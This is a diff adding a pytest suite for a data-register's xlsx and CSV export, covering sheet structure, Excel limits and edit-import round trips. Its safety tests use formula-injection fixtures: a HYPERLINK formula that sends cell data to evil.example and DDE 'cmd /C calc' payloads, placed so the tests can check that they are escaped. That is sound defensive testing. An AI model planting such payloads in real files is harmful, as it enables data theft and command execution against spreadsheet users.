@@ -1,0 +1,352 @@
+"""The xlsx export: structure, safety, Excel limits, and the edit-and-import round trip.
+
+Workbooks are checked by reading them back with openpyxl, never by comparing bytes.
+"""
+
+from __future__ import annotations
+
+import csv
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from sqlalchemy import update
+
+from register.errors import ValidationError
+from register.exports import REGISTER_COLUMNS, export_register
+from register.exports import xlsx as xlsx_mod
+from register.register import _D, Register
+from register.rights.record import EDITABLE_COLUMNS, parse_rights_options
+from register.rights.table_import import FORMULA_TRIGGERS
+from register.store.engine import run_write
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+HOSTILE_LICENSE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def loaded(sqlite_reg: Register, cards_dir: Path) -> Register:
+    sqlite_reg.ingest_paths([cards_dir], recursive=True)
+    return sqlite_reg
+
+
+def _hostile_card(root: Path, name: str, pretty: str, license_name: str,
+                  extra: str = "") -> Path:
+    d = root / name
+    d.mkdir(parents=True)
+    (d / "README.md").write_text(
+        "---\n"
+        f"pretty_name: '{pretty.replace(chr(39), chr(39) * 2)}'\n"
+        "license: other\n"
+        f"license_name: \"{license_name}\"\n"
+        "license_link: '@SUM(1+1)*cmd|'' /C calc''!A0'\n"
+        "---\n\n# Card\n" + extra, encoding="utf-8")
+    return d
+
+
+def _header(ws: Any) -> dict[str, int]:
+    return {c.value: c.column for c in ws[1]}
+
+
+def _row_of(ws: Any, dataset_id: str) -> int:
+    for row in ws.iter_rows(min_row=2, max_col=1):
+        if row[0].value == dataset_id:
+            return int(row[0].row)
+    raise AssertionError(dataset_id)
+
+
+def _set(reg: Register, dataset_id: str, **options: Any) -> None:
+    change = parse_rights_options(**options) if options else None
+    assert change is not None
+    reg.set_rights(dataset_id, change, reason="test", by="tester")
+
+
+# --------------------------------------------------------------------------- structure
+
+
+def test_workbook_structure(loaded: Register, tmp_path: Path) -> None:
+    _set(loaded, "beans", personal_data="yes", lawful_basis="consent",
+         consent_purpose=["research"], retain_until="2027-01-31", collected_in=["DE", "FR"])
+    out = tmp_path / "register.xlsx"
+    report = export_register(loaded, "xlsx", out)
+    assert report.rows == loaded.count() == 15
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Register", "Review", "Licenses", "About"]
+    ws = wb["Register"]
+    header = _header(ws)
+    assert list(header) == [c.name for c in REGISTER_COLUMNS]
+    assert set(EDITABLE_COLUMNS) <= set(header)
+    assert ws.freeze_panes == "B2"
+    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}16"
+    assert ws.max_row == 16
+    widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width
+              for i in range(1, len(header) + 1)]
+    assert all(8 <= w <= 60 for w in widths)
+    # read-only marker on computed columns, a help comment on editable ones
+    assert "computed" in ws.cell(1, header["declared_license"]).comment.text
+    assert "edits are ignored" in ws.cell(1, header["needs_review"]).comment.text
+    assert "yes | no | unknown" in ws.cell(1, header["personal_data"]).comment.text
+    assert ws.conditional_formatting  # grey computed blocks
+    # data validation lists on the closed editable columns
+    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation
+             if dv.type == "list"}
+    pd_col = openpyxl.utils.get_column_letter(header["personal_data"])
+    assert lists['"yes,no,unknown"'] == f"{pd_col}2:{pd_col}16"
+    assert any("legitimate-interests" in f for f in lists)
+    # dates are real dates; lists joined with ';'
+    r = _row_of(ws, "beans")
+    assert ws.cell(r, header["retain_until"]).value == datetime(2027, 1, 31)
+    assert ws.cell(r, header["retain_until"]).is_date
+    assert ws.cell(r, header["collected_in"]).value == "DE;FR"
+    assert isinstance(ws.cell(r, header["last_change"]).value, datetime)
+    # needs-review cells are coloured
+    aeslc = _row_of(ws, "aeslc")
+    cell = ws.cell(aeslc, header["needs_review"])
+    assert cell.value == "yes" and cell.fill.fgColor.rgb.endswith("FFEB9C")
+    # Review sheet: the unknown license and the consent gap are listed
+    review = [tuple(c.value for c in row) for row in wb["Review"].iter_rows(min_row=2)]
+    assert any(row[0] == "aeslc" and row[1] == "license" for row in review)
+    assert wb["Review"].freeze_panes == "B2"
+    # Licenses sheet: every license named, with terms where the KB has them
+    lic_ws = wb["Licenses"]
+    lic_header = _header(lic_ws)
+    names = {row[0].value for row in lic_ws.iter_rows(min_row=2)}
+    assert "CC-BY-4.0" in names
+    for row in lic_ws.iter_rows(min_row=2):
+        assert row[lic_header["in_knowledge_base"] - 1].value in ("yes", "no")
+    assert report.warnings == []
+
+
+def test_check_sheet_with_corpus(loaded: Register, tmp_path: Path) -> None:
+    corpus = tmp_path / "corpus.yaml"
+    corpus.write_text("name: demo\ndatasets: [beans, aeslc, arabic_speech_corpus]\n")
+    out = tmp_path / "check.xlsx"
+    report = export_register(loaded, "xlsx", out, corpus=corpus, use="service",
+                             on=date(2027, 1, 1))
+    assert report.rows == 3
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Register", "Check", "Review", "Licenses", "About"]
+    assert {r[0].value for r in wb["Register"].iter_rows(min_row=2)} == {
+        "beans", "aeslc", "arabic_speech_corpus"}
+    ws = wb["Check"]
+    header = _header(ws)
+    first = [c.value for c in ws[2]]
+    assert first[header["section"] - 1] == "verdict"
+    assert first[header["verdict"] - 1] == report.check_verdict == "needs-review"
+    verdict_cell = ws.cell(2, header["verdict"])
+    assert verdict_cell.fill.fgColor.rgb.endswith("FFEB9C")
+    sections = {r[0].value for r in ws.iter_rows(min_row=2)}
+    assert "dataset" in sections
+    ids = {r[1].value for r in ws.iter_rows(min_row=2) if r[0].value == "dataset"}
+    assert ids == {"beans", "aeslc", "arabic_speech_corpus"}
+    for row in ws.iter_rows(min_row=3):
+        if row[0].value == "dataset" and row[1].value == "aeslc":
+            assert row[header["verdict"] - 1].value == "needs-review"
+            assert row[header["message"] - 1].value
+
+
+# --------------------------------------------------------------------------- safety
+
+
+def test_hostile_card_puts_no_formula_in_any_export(
+        sqlite_reg: Register, cards_dir: Path, tmp_path: Path) -> None:
+    _hostile_card(cards_dir, "evil", HOSTILE_NAME, HOSTILE_LICENSE)
+    _hostile_card(cards_dir, "evil2", "+1+cmd|' /C calc'!A0", "-2+3",
+                  extra="## Licensing Information\n\n=HYPERLINK(\"http://x\")\n")
+    sqlite_reg.ingest_paths([cards_dir], recursive=True)
+    _set(sqlite_reg, "evil", dpia="=1+1", personal_data="yes", lawful_basis="consent",
+         consent_purpose=["any"])
+    corpus = tmp_path / "corpus.yaml"
+    corpus.write_text("name: '=evil corpus'\ndatasets: [evil, evil2, beans]\n")
+    out = tmp_path / "out.xlsx"
+    export_register(sqlite_reg, "xlsx", out, corpus=corpus, use="service")
+    full = tmp_path / "full.xlsx"
+    export_register(sqlite_reg, "xlsx", full)
+    for path in (out, full):
+        wb = openpyxl.load_workbook(path)
+        seen_hostile = False
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str):
+                        assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
+                        seen_hostile |= "HYPERLINK" in cell.value
+        assert seen_hostile
+    reg_ws = openpyxl.load_workbook(full)["Register"]
+    header = _header(reg_ws)
+    r = _row_of(reg_ws, "evil")
+    assert reg_ws.cell(r, header["pretty_name"]).value == "'" + HOSTILE_NAME
+    assert reg_ws.cell(r, header["dpia"]).value == "'=1+1"
+    # the same in CSV
+    for args in ({}, {"corpus": corpus, "use": "service"}):
+        csv_out = tmp_path / "out.csv"
+        export_register(sqlite_reg, "csv", csv_out, **args)  # type: ignore[arg-type]
+        with csv_out.open(encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        assert len(rows) > 1
+        for row in rows:
+            for value in row:
+                assert not value.startswith(FORMULA_TRIGGERS), value
+
+
+def test_escaped_cells_import_back_unchanged(sqlite_reg: Register, cards_dir: Path,
+                                             tmp_path: Path) -> None:
+    _hostile_card(cards_dir, "evil", HOSTILE_NAME, HOSTILE_LICENSE)
+    sqlite_reg.ingest_paths([cards_dir], recursive=True)
+    _set(sqlite_reg, "evil", dpia="=1+1")
+    out = tmp_path / "out.xlsx"
+    export_register(sqlite_reg, "xlsx", out)
+    summary = sqlite_reg.import_rights(out, by="tester")
+    assert summary["rights_changed"] == 0 and summary["licenses_changed"] == 0
+    assert sqlite_reg.show("evil")["rights"]["recorded"]["dpia"] == "=1+1"
+
+
+def test_long_cells_are_truncated_visibly_and_reported(
+        loaded: Register, tmp_path: Path) -> None:
+    long = "x" * 40_000
+
+    def work(conn: Any) -> None:
+        conn.execute(update(_D).where(_D.c.id == "beans").values(
+            pretty_name=long, declared_reason="bad \x00\x07 bytes"))
+
+    run_write(loaded.engine, work)
+    out = tmp_path / "long.xlsx"
+    report = export_register(loaded, "xlsx", out)
+    ws = openpyxl.load_workbook(out)["Register"]
+    header = _header(ws)
+    value = ws.cell(_row_of(ws, "beans"), header["pretty_name"]).value
+    assert len(value) <= xlsx_mod.MAX_CELL_CHARS
+    assert value.startswith("xxxx") and "[truncated:" in value
+    assert any("32,767" in w and "beans" in w for w in report.warnings)
+    # the json export keeps the full text
+    js = tmp_path / "full.json"
+    export_register(loaded, "json", js)
+    assert long in js.read_text(encoding="utf-8")
+
+
+def test_hyperlink_limit_is_respected_and_reported(
+        loaded: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def work(conn: Any) -> None:
+        for ds in loaded.dataset_ids():
+            conn.execute(update(_D).where(_D.c.id == ds).values(
+                source=f"https://huggingface.co/datasets/{ds}"))
+
+    run_write(loaded.engine, work)
+    monkeypatch.setattr(xlsx_mod, "MAX_HYPERLINKS", 5)
+    out = tmp_path / "links.xlsx"
+    report = export_register(loaded, "xlsx", out)
+    ws = openpyxl.load_workbook(out)["Register"]
+    header = _header(ws)
+    cells = [ws.cell(r, header["source"]) for r in range(2, ws.max_row + 1)]
+    assert sum(1 for c in cells if c.hyperlink is not None) == 5
+    assert all(c.value.startswith("https://huggingface.co/datasets/") for c in cells)
+    assert any("links" in w and "Register" in w for w in report.warnings)
+
+
+def test_sheet_title_limits() -> None:
+    assert xlsx_mod.sheet_title("Register") == "Register"
+    long = xlsx_mod.sheet_title("a/b:c*d?e[f]g\\h" + "x" * 40)
+    assert len(long) == 31 and not set("[]:*?/\\") & set(long)
+    assert xlsx_mod.sheet_title("''") == "Sheet"
+
+
+# --------------------------------------------------------------------------- round trip
+
+
+def _edit(path: Path, edits: dict[tuple[str, str], Any]) -> None:
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Register"]
+    header = _header(ws)
+    for (dataset_id, column), value in edits.items():
+        ws.cell(_row_of(ws, dataset_id), header[column]).value = value
+    wb.save(path)
+
+
+def test_round_trip_imports_exactly_the_edits(loaded: Register, tmp_path: Path) -> None:
+    _set(loaded, "beans", personal_data="no", collected_in=["KE"])
+    _set(loaded, "cedr", personal_data="yes", lawful_basis="legitimate-interests",
+         allowed_region=["EU"], retain_until="2030-06-30")
+    before = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
+    audit_before = len(loaded.audit_log())
+    out = tmp_path / "edit.xlsx"
+    export_register(loaded, "xlsx", out)
+
+    # unedited: a no-op
+    summary = loaded.import_rights(out, by="procurement")
+    assert summary == {"rows": 15, "rights_changed": 0, "licenses_changed": 0,
+                       "unchanged": 15}
+
+    _edit(out, {
+        ("beans", "allowed_region"): "EEA",
+        ("beans", "retain_until"): datetime(2031, 12, 31),
+        ("cedr", "lawful_basis"): "contract",
+        ("cedr", "reason"): "DPA signed 2026-10",
+        ("aeslc", "personal_data"): "yes",
+        ("aeslc", "lawful_basis"): "legitimate-interests",
+        ("aeslc", "sensitive"): "confidential-business",
+        ("aeslc", "dpia"): "DPIA-42",
+        ("aeslc", "concluded_license"): "CC-BY-4.0",
+        ("aeslc", "concluded_reason"): "vendor contract 2026-11 grants CC BY",
+        ("aeslc", "by"): "alice",
+        ("cedr", "pretty_name"): "edits to computed columns are ignored",
+    })
+    summary = loaded.import_rights(out, by="procurement")
+    assert summary == {"rows": 15, "rights_changed": 3, "licenses_changed": 1,
+                       "unchanged": 12}
+
+    after = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
+    changed = {ds for ds in after if after[ds]["rights"]["recorded"]
+               != before[ds]["rights"]["recorded"]
+               or after[ds]["license"]["concluded"] != before[ds]["license"]["concluded"]}
+    assert changed == {"beans", "cedr", "aeslc"}
+    beans = after["beans"]["rights"]["recorded"]
+    assert beans["allowed_regions"] == ["EEA"] and beans["retain_until"] == "2031-12-31"
+    assert beans["collected_in"] == ["KE"] and beans["personal_data"] == "no"
+    cedr = after["cedr"]
+    assert cedr["rights"]["recorded"]["lawful_basis"] == "contract"
+    assert cedr["rights"]["reason"] == "DPA signed 2026-10"
+    assert cedr["pretty_name"] == before["cedr"]["pretty_name"]
+    aeslc = after["aeslc"]
+    assert aeslc["license"]["concluded"] == "CC-BY-4.0"
+    assert aeslc["license"]["concluded_by"] == "alice"
+    assert aeslc["license"]["effective"] == "CC-BY-4.0"
+    assert aeslc["rights"]["recorded"]["sensitive"] == ["confidential-business"]
+    assert aeslc["rights"]["by"] == "alice"
+    events = loaded.audit_log()[audit_before:]
+    actions = [(e["action"], e["dataset_id"]) for e in events]
+    assert sorted(a for a in actions if a[0] != "import") == sorted([
+        ("rights.set", "beans"), ("rights.set", "cedr"), ("rights.set", "aeslc"),
+        ("license.conclude", "aeslc")])
+
+    # a re-export of the new state imports as a no-op
+    again = tmp_path / "again.xlsx"
+    export_register(loaded, "xlsx", again)
+    assert loaded.import_rights(again)["unchanged"] == 15
+
+
+def test_invalid_edits_write_nothing_and_name_every_cell(
+        loaded: Register, tmp_path: Path) -> None:
+    out = tmp_path / "bad.xlsx"
+    export_register(loaded, "xlsx", out)
+    before = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
+    _edit(out, {
+        ("beans", "personal_data"): "maybe",
+        ("cedr", "lawful_basis"): "because",
+        ("aeslc", "concluded_license"): "NOT A LICENSE ((",
+        ("aeslc", "concluded_reason"): "x",
+        ("ethos", "allowed_region"): "ZZ",
+        ("asset", "lawful_basis"): "consent",  # valid alone: still not written
+    })
+    with pytest.raises(ValidationError) as info:
+        loaded.import_rights(out)
+    problems = info.value.problems
+    where = {(p.sheet, p.column) for p in problems}
+    assert ("Register", "personal_data") in where
+    assert ("Register", "lawful_basis") in where
+    assert ("Register", "concluded_license") in where
+    assert ("Register", "allowed_region") in where
+    assert all(p.row and p.row >= 2 for p in problems)
+    assert {ds: loaded.show(ds) for ds in loaded.dataset_ids()} == before
